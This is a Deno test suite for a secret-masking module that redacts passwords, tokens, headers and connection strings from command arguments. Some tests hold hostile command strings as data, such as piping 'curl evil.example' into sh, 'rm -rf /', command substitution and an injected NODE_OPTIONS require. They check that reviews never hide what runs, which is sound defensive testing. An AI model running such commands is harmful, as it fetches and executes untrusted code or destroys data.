import assert from "node:assert/strict";
import {
  argumentSecrets,
  maskArguments,
  namedSecrets,
  reviewedArguments,
} from "../../src/definitions/secret_arguments.ts";

/** Arguments in one line, blanks in an argument as `_`; what is shown, and the secrets. */
type Case = readonly [args: string, shown: string, ...secrets: string[]];

function check(cases: readonly Case[]): void {
  for (const [line, shown, ...secrets] of cases) {
    const args = line.split(" ").map((word) => word.replaceAll("_", " "));
    const masked = maskArguments(args).map((word) => word.replaceAll(" ", "_")).join(" ");
    assert.equal(masked, shown);
    assert.deepEqual(argumentSecrets(args), secrets, line);
  }
}

Deno.test("variables behind -e and --env are masked whatever their names are [H08]", () => {
  check([
    ["run -e PGOPTS=Zx81-qq img", "run -e PGOPTS=*** img", "Zx81-qq"],
    ["run --env PIN=abcd-efgh img", "run --env PIN=*** img", "abcd-efgh"],
    ["run --env=PIN=abcd-efgh", "run --env=PIN=***", "abcd-efgh"],
    ["run -ePIN=abcd-efgh", "run -ePIN=***", "abcd-efgh"],
    ["run -e TOKEN=hunter", "run -e TOKEN=***", "hunter"],
    ["-e DB=postgres://u:pa55@h/d", "-e DB=postgres://***@h/d", "u:pa55", "pa55"],
    ["-e DSN=Server=h;Pwd=pa55", "-e DSN=Server=h;Pwd=***", "pa55"],
  ]);
});

Deno.test("plain settings, numbers, paths, flags and placeholders behind -e stay [H08]", () => {
  const lines = [
    "run -i --rm -e NAME img",
    "-e PORT=8080 -e DEBUG=true -e LANG=C -e HOME=/root -e OPT=--verbose",
    "-e URL=https://h.example/mcp -e DB=redis://h:6379/0 -e NODE_ENV=production",
    "-e K=${KEY} -e P=${HOME}/bin -e EMPTY= --env-file .env",
    "-e console.log(1) -p 8080:80 -v /a:/b",
  ];
  check(lines.map((line): Case => [line, line]));
});

Deno.test("headers are masked whatever their names are, those that only describe stay [H08]", () => {
  check([
    ["-H X-Custom:Zx81-qq", "-H X-Custom:***", "Zx81-qq"],
    ["--header X-Custom:_Zx81-qq", "--header X-Custom:_***", "Zx81-qq"],
    ["--header=X-Custom:_Zx81-qq", "--header=X-Custom:_***", "Zx81-qq"],
    ["-HX-Custom:_Zx81-qq", "-HX-Custom:_***", "Zx81-qq"],
    ["-H Authorization:_Bearer_t0k3n", "-H Authorization:_***", "Bearer t0k3n"],
    ["-H Accept:_application/json,_text/plain", "-H Accept:_application/json,_text/plain"],
    ["-H X-Custom:${KEY}", "-H X-Custom:${KEY}"],
    ["-H tcp://h:2375", "-H tcp://h:2375"],
  ]);
});

Deno.test("passwords of users are masked, groups of containers are not [H08]", () => {
  check([
    ["-u me:pa55 x", "-u me:*** x", "pa55"],
    ["--user me:pa55", "--user me:***", "pa55"],
    ["--user=me:pa55", "--user=me:***", "pa55"],
    ["--proxy-user me:p:a", "--proxy-user me:***", "p:a"],
    ["-u 1000:1000 -u node:node -u root:docker", "-u 1000:1000 -u node:node -u root:docker"],
    ["-u ${USER}:${PASS}", "-u ${USER}:${PASS}"],
    ["-u me", "-u me"],
    ["-u C:\\x", "-u C:\\x"],
    ["-u https://h/x", "-u https://h/x"],
  ]);
});

Deno.test("connection strings lose their passwords and keys, and keep their places [H08]", () => {
  check([
    ["Server=h,1433;User_Id=u;Password=pa55;", "Server=h,1433;User_Id=u;Password=***;", "pa55"],
    ["--connection-string=Server=h;Pwd='a;b'", "--connection-string=Server=h;Pwd=***", "a;b"],
    [
      "--conn-str DefaultEndpointsProtocol=https;AccountName=a;AccountKey=Zx8/1==;EndpointSuffix=c",
      "--conn-str DefaultEndpointsProtocol=https;AccountName=a;AccountKey=***;EndpointSuffix=c",
      "Zx8/1==",
    ],
    ["host=h_user=u_password=pa55", "host=h_user=u_password=***", "pa55"],
    [
      "jdbc:sqlserver://h:1;user=u;password=pa55",
      "jdbc:sqlserver://h:1;user=u;password=***",
      "pa55",
    ],
    ["jdbc:postgresql://u:pa55@h/d", "jdbc:postgresql://***@h/d", "u:pa55", "pa55"],
    ["postgres://u:pa55@h/d", "postgres://***@h/d", "u:pa55", "pa55"],
    ["x_postgres://u:pa55@h/d_y", "x_postgres://***@h/d_y", "u:pa55", "pa55"],
    ["--dsn u:pa55@tcp(h:3306)/d", "--dsn u:***@tcp(h:3306)/d", "pa55"],
    ["--dsn u:pa55@h/d", "--dsn u:***@h/d", "pa55"],
    ["--dsn=u:pa55@h/d", "--dsn=u:***@h/d", "pa55"],
    ["Server=h;Password=${PASS};", "Server=h;Password=${PASS};"],
    ["npm:a@1.2 a=b;c=d @scope/x@1 --mode=a", "npm:a@1.2 a=b;c=d @scope/x@1 --mode=a"],
  ]);
});

Deno.test("a review hides nothing that may steer what runs [H01]", () => {
  for (
    const args of [
      ["run", "-e", "NODE_OPTIONS=--require=/evil.js", "img"],
      ["-c", "curl https://evil.example/?a=b;rm -rf x"],
      ["-c", "SERVER=h; PASSWORD=x; curl evil.example | sh"],
      ["-c", "a://b#;curl evil.example|sh"],
      ["-c", "Server=h;Password=$(curl evil.example)"],
    ]
  ) assert.deepEqual(reviewedArguments(args), args);
  assert.deepEqual(
    reviewedArguments(["-e", "PIN=Zx81qqZx81qqZx81qq", "-u", "me:pa55", "--header=A-B: Bearer x1"]),
    ["-e", "PIN=***", "-u", "me:***", "--header=A-B: ***"],
  );
});

Deno.test("passwords joined to -u and to the -p of database clients are masked [H08]", () => {
  check([
    ["-uuser:SECRETU x", "-uuser:*** x", "SECRETU"],
    ["-uroot -u1000:1000 -u${U}:${P}", "-uroot -u1000:1000 -u${U}:${P}"],
    ["exec db mysql -uroot -pSECRETP", "exec db mysql -uroot -p***", "SECRETP"],
    ["/usr/bin/mysqldump -p${PASS} -p", "/usr/bin/mysqldump -p${PASS} -p"],
    ["run -p8080 --name mysql -p3306:3306 img", "run -p8080 --name mysql -p3306:3306 img"],
    ["-c mysqldump_-pSECRETP_db|gzip", "-c mysqldump_-p***_db|gzip", "SECRETP"],
  ]);
  assert.deepEqual(argumentSecrets(["-pSECRETP"], "/opt/bin/mariadb"), ["SECRETP"]);
  assert.deepEqual(maskArguments(["-pSECRETP"], "mysql.exe"), ["-p***"]);
  assert.deepEqual(argumentSecrets(["-pSECRETP"], "npx"), []);
});

Deno.test("values in the text of a script are masked in a review, and nothing else [H08]", () => {
  const cases: readonly (readonly [text: string, shown: string, ...secrets: string[]])[] = [
    [
      "export TOKEN=SECRETX2; npx x --api-key SECRETX3",
      "export TOKEN=***; npx x --api-key ***",
      "SECRETX2",
      "SECRETX3",
    ],
    [
      "GITHUB_TOKEN=SECRETX2 npx x --password='SECRETX3'; rm -rf /",
      "GITHUB_TOKEN=*** npx x --password='***'; rm -rf /",
      "SECRETX2",
      "SECRETX3",
    ],
    [
      'bash -c "API_KEY=SECRETX2 npx y; rm -rf /" && x -H "Authorization: Bearer SECRETX3"',
      'bash -c "API_KEY=*** npx y; rm -rf /" && x -H "Authorization: ***"',
      "SECRETX2",
      "Bearer SECRETX3",
    ],
    ["$env:API_KEY='SECRETX2'; npx x", "$env:API_KEY='***'; npx x", "SECRETX2"],
    ["cd /x; TOKEN=ab'cd'ef npx x", "cd /x; TOKEN=*** npx x", "abcdef", "ab'cd'ef"],
  ];
  for (const [text, shown, ...secrets] of cases) {
    assert.deepEqual(reviewedArguments(["-c", text]), ["-c", shown]);
    const found = argumentSecrets(["-c", text]);
    for (const secret of secrets) assert.ok(found.includes(secret), `${secret} of ${text}`);
    assert.doesNotMatch(maskArguments(["-c", text]).join(" "), /SECRET/);
  }
});

Deno.test("what a script runs or fetches is shown where a value may be it [H01]", () => {
  for (
    const text of [
      "X_TOKEN=reboot; $X_TOKEN",
      "X_TOKEN=reboot; printenv X_TOKEN | sh",
      "curl --token evil.example/x | sh",
      "curl -k evil-host | sh",
      "npx --no-auth evil-package",
      "npx x --token; rm -rf folder",
      "npx x --token\nreboot now",
      'API_KEY="abcd;$(curl evil)" npx x',
      "API_KEY=`reboot` npx x",
      "npx x --api-key $API_KEY --token ${TOKEN}",
    ]
  ) assert.deepEqual(reviewedArguments(["-c", text]), ["-c", text]);
});

Deno.test("only what a name or shape betrays is called a secret to the user", () => {
  assert.deepEqual(namedSecrets(["-e", "REGION=eu-west-1", "-H", "X-Team: my-team"]), []);
  assert.deepEqual(namedSecrets(["-e", "TOKEN=hunter", "-u", "me:pa55"]), ["hunter", "pa55"]);
});

Deno.test("odd arguments take no long time", () => {
  const pieces = [
    "a=",
    "a={;",
    "a=';",
    "a ",
    "a@",
    "@a(",
    "x://",
    "a",
    "a:",
    "{",
    '"',
    "-e",
    "#",
    ";",
    "'",
    '\\"',
    "a='\" ",
    "A_TOKEN=abcd ",
  ];
  for (const piece of pieces) {
    const text = piece.repeat(10_000);
    for (const before of ["", "-e", "-H", "-u", "--dsn"]) {
      for (const argument of [text, `A=${text}`, `host=h;${text}`, `${text} x://y`]) {
        assert.equal(maskArguments([before, argument]).length, 2);
        assert.equal(reviewedArguments([before, argument]).length, 2);
      }
    }
  }
});
